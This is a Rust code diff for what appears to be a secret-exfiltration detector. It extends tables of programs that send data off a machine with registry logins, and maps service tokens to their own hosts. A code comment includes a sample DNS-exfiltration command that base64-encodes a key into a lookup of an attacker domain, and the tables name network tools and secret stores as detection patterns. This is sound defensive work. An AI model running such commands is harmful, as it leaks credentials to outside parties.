@@ -33,6 +33,9 @@ pub(crate) enum Sender {
     /// `gh gist create FILE…` (`-` or no file: stdin): a secret gist is unlisted, not
     /// private; anyone with its address reads it.
     GhGist,
+    /// Container registry logins (`docker login SERVER`, `helm registry login`, `crane auth
+    /// login`): the password (`-p`, or stdin with `--password-stdin`) goes to the registry.
+    RegistryLogin,
     /// DNS lookups (dig, nslookup, host, drill, ping and friends): the names they resolve
     /// reach the name's authoritative servers, whoever runs them, so data put into a name
     /// (`dig $(base64 < key).evil.example`) leaves the machine.
@@ -60,6 +63,14 @@ pub(crate) const SENDERS: &[(&str, Sender)] = &[
     ("socat", Sender::Socat),
     ("aws", Sender::AwsS3),
     ("gh", Sender::GhGist),
+    ("docker", Sender::RegistryLogin),
+    ("podman", Sender::RegistryLogin),
+    ("nerdctl", Sender::RegistryLogin),
+    ("buildah", Sender::RegistryLogin),
+    ("skopeo", Sender::RegistryLogin),
+    ("oras", Sender::RegistryLogin),
+    ("helm", Sender::RegistryLogin),
+    ("crane", Sender::RegistryLogin),
     ("dig", Sender::Resolver),
     ("nslookup", Sender::Resolver),
     ("host", Sender::Resolver),
@@ -264,6 +275,21 @@ pub(crate) const PYTHON_SERVERS: &[&str] = &["http.server", "SimpleHTTPServer"];
 
 /// Addresses that keep a server on this machine.
 pub(crate) const LOOPBACK_BINDS: &[&str] = &["127.0.0.1", "localhost", "::1", "[::1]", "127.1"];
+
+/// Secret stores whose secret is one service's token, by program and first subcommand, with
+/// that service's hosts: sent there it stays with its service, as a credential variable does
+/// (`curl -H "Authorization: Bearer $(gh auth token)" https://api.github.com/…`). What any
+/// other store prints (`vault kv get`, `op read`, `aws secretsmanager get-secret-value`) may
+/// be for anything: every destination is a flow.
+pub(crate) const SERVICE_TOKENS: &[(&str, &str, &[&str])] = &[
+    (
+        "gh",
+        "auth",
+        &["github.com", "githubusercontent.com", "ghcr.io"],
+    ),
+    ("gcloud", "auth", &["googleapis.com", "gcr.io", "pkg.dev"]),
+    ("aws", "ecr", &["amazonaws.com"]),
+];
 
 /// Programs that print secret keys when given one of these options (`gpg
 /// --export-secret-keys`), and the options: what they print is a private key file's content.
